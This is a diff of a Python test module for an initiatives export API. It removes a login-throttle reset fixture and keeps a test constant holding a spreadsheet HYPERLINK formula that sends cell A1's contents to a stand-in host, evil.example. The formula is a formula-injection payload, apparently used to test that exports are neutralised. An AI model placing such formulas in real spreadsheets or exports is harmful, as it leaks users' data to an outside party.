@@ -13,7 +13,6 @@ from sqlalchemy.orm import Session
 from typer.testing import CliRunner
 
 from models import Category, Indicator, Initiative, Period
-from models.access.login import login_throttle
 from models.core.formulas import neutralise
 from models.core.settings import get_settings
 from models.spreadsheets.exports import EXPORT_COLUMNS, csv_chunks
@@ -25,11 +24,6 @@ from .test_imports import build_world
 BASE = "/api/v1/initiatives/c2c"
 EXPORT = f"{BASE}/export"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-@pytest.fixture(autouse=True)
-def _reset_throttle():
-    login_throttle.reset()
 
 
 def add_values(session: Session, built: dict) -> None:
